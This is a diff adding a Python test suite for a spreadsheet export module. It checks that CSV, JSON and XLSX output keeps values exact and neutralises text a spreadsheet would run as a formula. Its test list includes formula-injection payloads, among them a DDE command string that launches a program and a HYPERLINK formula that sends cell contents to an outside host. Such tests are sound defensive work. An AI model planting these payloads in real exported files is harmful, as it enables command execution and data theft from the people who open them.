@@ -1,0 +1,257 @@
+"""Cells and files: lossless, readable by other programs, and never a formula."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import sys
+from datetime import UTC, date, datetime, time, timedelta, timezone
+from decimal import Decimal
+from pathlib import Path
+from typing import Any
+from uuid import UUID
+
+import openpyxl
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from openpyxl.utils.escape import unescape
+
+from tasks.cells import CellTooLong, csv_cell, json_cell, neutral, xlsx_cell
+from tasks.formats import FORMATS, XlsxWriter
+
+FORMULAS = [
+    "=1+1",
+    "+1",
+    "-1",
+    "@SUM(A1)",
+    "\t=1",
+    "\rx",
+    "\nx",
+    " =1",
+    "\u00a0=1",
+    "\ufeff=1",
+    "\u200b=1",
+    '"=1',
+    "\x0b=1",
+    "\uff1d1",  # full-width =
+    "\uff0b1",
+    "\uff0d1",
+    "\uff201",
+    "\u22121",  # minus sign
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://x.example/?"&A1)',
+]
+INNER = ["x,=1", "x;=1", "x\t+1", "x|@1", "x\n=1", "x\r\n-1", "x; =1", 'x,"=1', "x;\uff1d1", '";=1;"']
+HARMLESS = ["", "a=b", "1-2", "me@example.org", "x, y", "https://example.org/?a=1", "'=1", "12:30", "a - b", "ä\u2028b"]
+EAST = timezone(timedelta(hours=2))
+SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
+
+
+def write(form: str, columns: list[str], rows: list[list[Any]], path: Path) -> Path:
+    """A file of this format with these values."""
+    with path.open("w+b") as file:
+        writer = FORMATS[form].writer(file, columns, path.parent)
+        writer.write([[FORMATS[form].cell(value) for value in row] for row in rows])
+        writer.finish()
+        writer.close()
+    return path
+
+
+def read_xlsx(path: Path, sheet: int = 0) -> list[list[Any]]:
+    """The cells of a sheet, line by line."""
+    book = openpyxl.load_workbook(io.BytesIO(path.read_bytes()))
+    rows = [[cell.value for cell in row] for row in book.worksheets[sheet].iter_rows()]
+    book.close()
+    return rows
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
+    """At the start, also behind spaces and invisible characters, and in the full-width forms."""
+    assert neutral(text).startswith("'")
+    assert neutral(text).replace("'", "") == text.replace("'", "")
+
+
+@pytest.mark.parametrize("text", INNER)
+@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
+def test_no_reader_with_another_separator_finds_a_formula(text: str, separator: str) -> None:
+    """What follows a separator, a quote or a line break within a text is neutralised as well."""
+    buffer = io.StringIO(newline="")
+    csv.writer(buffer).writerow(["a", csv_cell(text), "b"])
+    for line in buffer.getvalue().splitlines():
+        for cell in csv.reader([line], delimiter=separator):
+            assert not any(field.strip(' "').startswith(tuple(SIGNS)) for field in cell)
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_other_texts_stay_as_they_are(text: str) -> None:
+    """A sign within a word or between numbers runs nothing."""
+    assert csv_cell(text) == text
+
+
+@given(st.text(alphabet=st.characters(codec="utf-8") | st.sampled_from("=+-@;,|\t\r\n\" '")))
+def test_neutralising_is_idempotent_and_only_adds_apostrophes(text: str) -> None:
+    """A file that is processed again does not collect apostrophes."""
+    assert neutral(neutral(text)) == neutral(text)
+    assert neutral(text).replace("'", "") == text.replace("'", "")
+
+
+def test_neutralising_is_linear_in_the_length_of_the_text() -> None:
+    """A megabyte of what may stand before a sign does not stall an export."""
+    for filler in (" ", "\n", ",", ', "', "\t "):
+        assert neutral(filler * (1_000_000 // len(filler)))
+
+
+def test_negative_numbers_stay_numbers() -> None:
+    """Only texts are neutralised."""
+    values = [-5, -0.5, Decimal("-12.50"), timedelta(seconds=-2)]
+    assert [csv_cell(value) for value in values] == ["-5", "-0.5", "-12.50", "-2.0"]
+    assert [json_cell(value) for value in values] == [-5, -0.5, -12.5, -2.0]
+    assert [xlsx_cell(value) for value in values] == [-5, -0.5, -12.5, -2.0]
+
+
+@pytest.mark.parametrize(
+    ("value", "in_csv", "in_json"),
+    [
+        (None, "", None),
+        (True, "true", True),
+        (False, "false", False),
+        (2**53, "9007199254740992", 2**53),
+        (2**63 - 1, "9223372036854775807", "9223372036854775807"),
+        (-(2**63), "-9223372036854775808", "-9223372036854775808"),
+        (0.1, "0.1", 0.1),
+        (float("nan"), "NaN", "NaN"),
+        (float("-inf"), "'-Infinity", "-Infinity"),
+        (Decimal("12.50"), "12.50", 12.5),
+        (Decimal("12.00"), "12.00", 12),
+        (Decimal("1E+3"), "1000", 1000),
+        (Decimal("0.1234567890123456789"), "0.1234567890123456789", "0.1234567890123456789"),
+        (Decimal("NaN"), "NaN", "NaN"),
+        (date(2026, 1, 2), "2026-01-02", "2026-01-02"),
+        (datetime(2026, 1, 2, 3, 4, 5, 678999, UTC), "2026-01-02T03:04:05.678Z", "2026-01-02T03:04:05.678Z"),
+        (datetime(2026, 1, 2, 3, tzinfo=EAST), "2026-01-02T01:00:00.000Z", "2026-01-02T01:00:00.000Z"),
+        (datetime(2026, 1, 2), "2026-01-02T00:00:00.000", "2026-01-02T00:00:00.000"),  # noqa: DTZ001 - a column without zone
+        (time(3, 4), "03:04:00", "03:04:00"),
+        (timedelta(minutes=1, milliseconds=5), "60.005", 60.005),
+        (UUID(int=1), "00000000-0000-0000-0000-000000000001", "00000000-0000-0000-0000-000000000001"),
+        (b"\xff\xfe", "//4=", "//4="),
+        ({"n": 2**60, "l": [None, Decimal("1.5")]}, '{"n": "1152921504606846976", "l": [null, 1.5]}',
+         {"n": str(2**60), "l": [None, 1.5]}),
+    ],
+)  # fmt: skip
+def test_every_kind_of_value_has_one_form_in_csv_and_json(value: Any, in_csv: str, in_json: Any) -> None:
+    """No number loses a digit; times are in UTC with milliseconds."""
+    assert csv_cell(value) == in_csv
+    assert json_cell(value) == in_json
+    json.dumps(json_cell(value), allow_nan=False)
+
+
+def test_csv_is_rfc_4180(tmp_path: Path) -> None:
+    """Comma, CRLF, doubled quotes, a header line, no byte order mark."""
+    path = write("csv", ["id", "text"], [[1, 'a "b", c'], [2, "line\r\nline"], [None, "ä"]], tmp_path / "x")
+    expected = 'id,text\r\n1,"a ""b"", c"\r\n2,"line\r\nline"\r\n,ä\r\n'
+    assert path.read_bytes() == expected.encode()
+
+
+def test_json_is_an_array_with_one_object_a_line(tmp_path: Path) -> None:
+    """A program can read it at once, or line by line."""
+    path = write("json", ["id", "text"], [[1, "=1+1 \u2028"], [2**60, None]], tmp_path / "x")
+    assert json.loads(path.read_text()) == [{"id": 1, "text": "=1+1 \u2028"}, {"id": str(2**60), "text": None}]
+    assert len(path.read_text().split("\n")) == 5
+
+
+def test_json_without_rows_is_an_empty_array(tmp_path: Path) -> None:
+    """And still JSON."""
+    assert json.loads(write("json", ["id"], [], tmp_path / "x").read_bytes()) == []
+
+
+def test_xlsx_keeps_numbers_times_and_texts(tmp_path: Path) -> None:
+    """Other programs read what was written: numbers as numbers, times in UTC, long numbers as exact text."""
+    moment = datetime(2026, 1, 2, 3, 4, 5, 678000, timezone(timedelta(hours=1)))
+    row = [
+        7,
+        -1.5,
+        Decimal("-12.5"),
+        True,
+        "ä",
+        moment,
+        date(2026, 1, 2),
+        None,
+        2**60,
+        date(1899, 1, 1),
+        Decimal("Infinity"),
+    ]
+    path = write("xlsx", [str(number) for number in range(len(row))], [row], tmp_path / "x")
+    assert read_xlsx(path)[1] == [
+        7, -1.5, -12.5, True, "ä", datetime(2026, 1, 2, 2, 4, 5, 678000), datetime(2026, 1, 2), None,  # noqa: DTZ001
+        "1152921504606846976", "1899-01-01", "Infinity",
+    ]  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    "text", [*FORMULAS, "{=1+1}", "<r><t>x</t></r>", "<r>&broken</r>", "http://x.example", "mailto:x"]
+)
+def test_xlsx_has_no_formula_link_or_markup(text: str, tmp_path: Path) -> None:
+    """A text is a text, whatever it looks like."""
+    path = write("xlsx", ["=1+1"], [[text], [1]], tmp_path / "x")
+    book = openpyxl.load_workbook(io.BytesIO(path.read_bytes()))
+    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row]
+    assert all(cell.data_type != "f" and cell.hyperlink is None for cell in cells)
+    assert not str(cells[1].value).startswith(tuple(SIGNS))
+    assert cells[2].value == 1
+    book.close()
+
+
+@pytest.mark.parametrize("text", ["a\x08b", "_x0041_", "a\r\nb", " two  spaces ", "<b>&amp;", "\U0001f600"])
+def test_xlsx_takes_any_text(text: str, tmp_path: Path) -> None:
+    """Control characters and markup come back as they went in."""
+    path = write("xlsx", ["text"], [[text]], tmp_path / "x")
+    assert unescape(read_xlsx(path)[1][0]) == text
+
+
+def test_xlsx_has_no_character_that_xml_forbids(tmp_path: Path) -> None:
+    """Excel would call the file damaged; control characters have an escape of their own."""
+    path = write("xlsx", ["text"], [["a\ufffeb\uffffc"]], tmp_path / "x")
+    assert read_xlsx(path)[1] == ["a\ufffdb\ufffdc"]
+
+
+def test_a_text_that_no_cell_can_hold_is_refused(tmp_path: Path) -> None:
+    """XlsxWriter alone would leave the cell empty without a word."""
+    assert write("xlsx", ["text"], [["x" * 32_767]], tmp_path / "x").stat().st_size
+    with pytest.raises(CellTooLong, match="csv or json"):
+        xlsx_cell("x" * 32_768)
+    with pytest.raises(CellTooLong):
+        xlsx_cell("\U0001f600" * 20_000)  # two UTF-16 units each
+
+
+def test_a_full_sheet_is_followed_by_another_one(tmp_path: Path) -> None:
+    """Each with the column names; nothing is cut off at Excel's limit of rows."""
+    path = tmp_path / "x"
+    with path.open("w+b") as file:
+        writer = XlsxWriter(file, ["n"], tmp_path, sheet_rows=3)
+        writer.write([[number] for number in range(5)])
+        writer.finish()
+        writer.close()
+    assert [read_xlsx(path, sheet) for sheet in range(3)] == [[["n"], [0], [1]], [["n"], [2], [3]], [["n"], [4]]]
+
+
+@pytest.mark.parametrize("form", FORMATS)
+def test_column_names_are_neutralised_where_cells_are(form: str, tmp_path: Path) -> None:
+    """A column name is a cell too."""
+    path = write(form, ["=1"], [[1]], tmp_path / "x")
+    if form == "csv":
+        assert path.read_text().splitlines()[0] == "'=1"
+    elif form == "xlsx":
+        assert read_xlsx(path)[0] == ["'=1"]
+    else:
+        assert json.loads(path.read_text()) == [{"=1": 1}]
+
+
+def test_the_size_limit_of_integers_does_not_matter() -> None:
+    """A numeric column may hold more digits than Python converts by default."""
+    long = Decimal("1" * (sys.get_int_max_str_digits() + 1))
+    assert csv_cell(long) == str(long)
+    assert json_cell(long) == str(long)
+    assert xlsx_cell(long) == str(long)
